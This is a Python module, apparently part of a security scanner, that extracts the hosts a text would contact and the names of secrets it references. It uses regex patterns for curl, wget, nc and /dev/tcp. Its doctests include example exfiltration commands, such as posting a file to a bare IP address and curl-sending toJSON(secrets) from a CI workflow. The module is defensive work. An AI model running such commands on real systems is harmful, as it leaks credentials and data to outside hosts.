"""What text points to: hosts it would contact, secrets it names."""

from __future__ import annotations

import re
from collections.abc import Iterator

_SCHEMES = ("http", "https", "ws", "wss", "ftp", "ftps", "ssh", "git", "tcp", "udp")
_HOST = re.compile(r"(?:[^\s/@'\"<>]{1,200}@)?(\[[0-9a-f:.]{2,45}\]|[a-z0-9_][a-z0-9_.-]{0,252})", re.IGNORECASE)
_DEVICE = re.compile(r"/dev/(?:tcp|udp)/([A-Za-z0-9_.-]{1,253})/")
_FETCHED = re.compile(
    r"\b(?:curl|wget|iwr|irm|Invoke-WebRequest|nc|ncat)\b[^\n|;&]{0,300}?[\s'\"]((?:[a-z0-9-]{1,63}\.){1,5}[a-z]{2,12})(?=[/:?'\"\s]|$)"
)
_PROGRAMS = ("curl", "wget", "iwr", "irm", "Invoke-WebRequest", "nc ", "ncat")
_ADDRESS = re.compile(r"^(?:\d{1,3}\.){3}\d{1,3}$|^\[.*\]$|^0x[0-9a-f]{6,8}$|^\d{8,10}$")
_PRIVATE = re.compile(r"^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|0\.0\.0\.0|\[::1?\])|^localhost$")


def hosts_in(text: str) -> Iterator[str]:
    """Yield the hosts of URLs, of `/dev/tcp`, and of arguments of curl and the like; of an address also that it is one.

    >>> list(hosts_in("curl -d @x http://45.9.8.7/a; wget -q pastes.example/x; see https://bob:pw@Git.example:8080"))
    ['45.9.8.7', 'a bare IP address', 'git.example', 'pastes.example']
    """
    for name in _addressed(text):
        host = name.lower().rstrip(".")
        if _PRIVATE.match(host):
            yield "this machine or a private network"
        elif _ADDRESS.match(host):
            yield host
            yield "a bare IP address"
        elif "." in host:
            yield host


def _addressed(text: str) -> Iterator[str]:
    before, *after = text.split("://")
    for rest in after:
        if before[-6:].lower().endswith(_SCHEMES) and (found := _HOST.match(rest)):
            yield found[1]
        before = rest
    if "/dev/" in text:
        yield from _DEVICE.findall(text)
    if any(program in text for program in _PROGRAMS):
        yield from _FETCHED.findall(text)


_SECRET = re.compile(
    r"\bsecrets\s{0,3}(?:\.([A-Za-z_]\w{0,80}|\s{1,3}[A-Z_][A-Z0-9_]{1,80}\b)|\[\s{0,3}['\"]([\w-]{1,80})['\"])"
)
"""Not the end of a sentence: after a space only a name in capitals counts."""
_METHODS = frozenset(
    {"append", "get", "items", "keys", "values", "update", "pop", "token_hex", "token_urlsafe", "choice"}
)
_ALL_SECRETS = re.compile(r"(?i)tojson\s{0,3}\(\s{0,3}secrets\s{0,3}\)|\bsecrets:\s{0,3}inherit\b")
_SECRET_NAME = re.compile(
    r"\b[A-Z][A-Z0-9_]{0,60}(?:TOKEN|SECRET|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|ACCESS_KEY_ID|PRIVATE_KEY|CREDENTIALS)\b"
)


def secrets_in(text: str) -> Iterator[str]:
    """Yield the names of secrets referred to, never their values; all of them at once is a name of its own.

    >>> list(secrets_in("run: curl -d '${{ toJSON(secrets) }}' $NPM_TOKEN ${{ secrets.PYPI }}"))
    ['toJSON(secrets)', 'PYPI', 'NPM_TOKEN']
    """
    yield from ("".join(found[0].split()) for found in _ALL_SECRETS.finditer(text))
    yield from ((found[1] or found[2]).strip() for found in _SECRET.finditer(text) if found[1] not in _METHODS)
    yield from (found[0] for found in _SECRET_NAME.finditer(text))
